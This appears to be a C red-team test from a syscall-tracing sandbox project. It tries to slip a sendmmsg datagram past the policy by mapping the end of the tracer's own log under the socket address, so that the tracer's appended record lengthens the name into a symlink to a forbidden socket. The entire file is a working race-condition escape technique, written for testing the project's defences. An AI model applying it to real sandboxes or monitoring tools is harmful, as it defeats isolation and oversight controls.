/* log_tail_send.c: a sendmmsg's message name in the tail of the run's own --log, to which the
 * tracer appends the call's own decision record between its read of the name and the kernel's
 * (red team 55; log_tail_open.c is the same with a path).
 *
 * usage: log_tail_send LOG SECRET_SOCKET TRIES      (cwd: a directory the program may write)
 *
 * A decision a rule made is logged (--log FILE), its record written on the tracer's thread
 * before the call is resumed.  The program maps the page of LOG that holds its end
 * (MAP_PRIVATE, read-only: a clean page shows every append) right after an anonymous page of
 * its own, whose last two bytes are AF_UNIX: a sockaddr_un whose sun_path is the log page's
 * first bytes.  When the log's size ends 1..12 bytes into a page, those bytes (the tail of the
 * last record) are the name the tracer reads -- msg_namelen covers two bytes more, past the
 * file's end, read as zeros -- a datagram socket of the program's own (the decoy), which a
 * rule permits; the record of the decision lands there, and the kernel reads the name with
 * the record's first two bytes, always `{"`: a symlink to SECRET_SOCKET, which the policy
 * refuses.  A sendmmsg's names are never copied by a hold (only a freeze holds them).
 * The log grows by opens of names below the cwd that do not exist (permitted by a rule,
 * logged: ENOENT) until its size lands in the window.
 *
 * NATIVE=1 (the control): no tracer writes the log; the program writes the records and the
 * `{"` itself, proving the kernel reads the longer name through the mapping.
 *
 * ESCAPED: the send succeeded and the decoy got nothing (the datagram went through the
 * symlink); BLOCKED: never.
 */
#include "attack.h"
#include "log_tail.h"

#define ROOM 12   /* the most bytes of the log's text the name takes */

int main(int argc, char **argv) {
    struct log_tail t = log_tail_start(argc, argv);
    const char *secret = argv[2];
    int tries = atoi(argv[3]);
    int fd = t.fd;
    long page = t.page, a = t.a, c = t.c;
    char *area = t.area;
    int attempts = 0, decoys = 0;
    unsigned missed = 0;  /* pads since the last try: past 40, lengths of their own */
    for (unsigned n = 0; n < (unsigned)tries * 200 && attempts < tries; n++) {
        off_t size = log_size(fd);
        off_t used = size % page;
        if (used < 1 || used > ROOM) {
            pad_toward(page - used + ROOM / 2, a, c, n, &missed);
            continue;
        }
        char tail[ROOM + 1];
        if (pread(fd, tail, used, size - used) != used)
            blocked("pread of the log: %s", ename(errno));
        tail[used] = 0;
        if (memchr(tail, '/', used) || strlen(tail) != (size_t)used || !strcmp(tail, ".") ||
            !strcmp(tail, "..")) {
            pad(MIN_PAD + n % 7);
            continue;
        }
        char longer[64];
        snprintf(longer, sizeof longer, "%s{\"", tail);
        unlink(tail);
        unlink(longer);
        int decoy = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        struct sockaddr_un d = {.sun_family = AF_UNIX};
        memcpy(d.sun_path, tail, used + 1);
        if (bind(decoy, (struct sockaddr *)&d, sizeof d) != 0)
            blocked("bind of the decoy: %s", ename(errno));
        if (symlink(secret, longer) != 0)
            blocked("symlink: %s", ename(errno));
        if (log_size(fd) != size) {
            close(decoy);
            continue;
        }
        attempts++;
        missed = 0;
        if (mmap(area + page, page, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, size - used) ==
            MAP_FAILED)
            blocked("mmap of the log: %s", ename(errno));
        sa_family_t family = AF_UNIX;
        memcpy(area + page - sizeof family, &family, sizeof family);
        if (native && write(logw, "{\"time\":1", 9) != 9)
            blocked("write of the log: %s", ename(errno));
        int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        struct iovec iov = {.iov_base = "x", .iov_len = 1};
        struct mmsghdr m = {0};
        m.msg_hdr.msg_name = area + page - sizeof family;
        m.msg_hdr.msg_namelen = sizeof family + used + 2;
        m.msg_hdr.msg_iov = &iov;
        m.msg_hdr.msg_iovlen = 1;
        int rc = sendmmsg(s, &m, 1, 0);
        int err = errno;
        close(s);
        char got[8];
        if (rc == 1 && recv(decoy, got, sizeof got, MSG_DONTWAIT) < 0 && errno == EAGAIN)
            escaped("sent through the log's last %d bytes and the call's own record's first"
                    " two, not to the decoy (try %d)", (int)used, attempts);
        if (rc == 1)
            decoys++;
        else
            note("try %d: sendmmsg: %s", attempts, ename(err));
        close(decoy);
        if (native && write(logw, "}\n", 2) != 2)
            blocked("write of the log: %s", ename(errno));
        mmap(area + page, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED,
             -1, 0);
    }
    blocked("nothing sent past the decoy (%d tries, %d to the decoy)", attempts, decoys);
}
